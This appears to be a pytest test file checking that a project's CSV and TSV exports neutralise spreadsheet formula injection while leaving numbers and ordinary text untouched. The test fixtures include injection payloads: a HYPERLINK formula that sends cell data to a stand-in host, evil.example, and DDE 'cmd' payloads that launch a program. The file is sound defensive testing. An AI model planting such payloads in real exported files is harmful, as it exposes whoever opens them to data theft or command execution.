"""Spreadsheet-safe exports (issue 14): a cell a spreadsheet would run as a formula is shown
as text in every CSV/TSV we write, numbers stay numbers, and TSV columns never shift."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from credit_capture import exports
from credit_capture.spreadsheet import csv_text, safe_cell, tsv_text

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_cell_that_would_start_a_formula_is_shown_as_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-0.25", "+3", "1e-3", "croup - dexamethasone", "", "a=b"])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert safe_cell(value) == value


def test_non_text_values_pass_through():
    assert safe_cell(-0.25) == -0.25 and safe_cell(None) is None and safe_cell(True) is True


def test_csv_text_neutralises_every_cell_and_quotes_properly():
    text = csv_text(["question", "amount"], [[a, -0.5] for a in ATTACKS]
                    + [['say "hi",\nthen go', "-0.25"]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["question", "amount"]
    assert [r[0] for r in rows[1:-1]] == ["'" + a for a in ATTACKS]
    assert all(r[1] == "-0.5" for r in rows[1:-1])
    assert rows[-1] == ['say "hi",\nthen go', "-0.25"]


def test_tsv_text_keeps_columns_in_place():
    text = tsv_text(["a", "b", "c"], [["x\ty", "=1+1", "line\nbreak"], ["-0.25", "@x", 3]])
    lines = text.splitlines()
    assert [len(line.split("\t")) for line in lines] == [3, 3, 3]
    assert lines[1].split("\t") == ["x y", "'=1+1", "line break"]
    assert lines[2].split("\t") == ["-0.25", "'@x", "3"]


def test_transcript_csv_uses_the_shared_helper():
    rows = [exports.TranscriptRow(date(2026, 12, 7), "=cmd|' /C calc'!A0 croup?",
                                  "@evil source", "ama_pra_1", -0.25, "corrected")]
    parsed = list(csv.reader(io.StringIO(exports.transcript_csv(rows))))
    assert parsed[1][1].startswith("'=") and parsed[1][2].startswith("'@")
    assert parsed[1][4] == "-0.25"
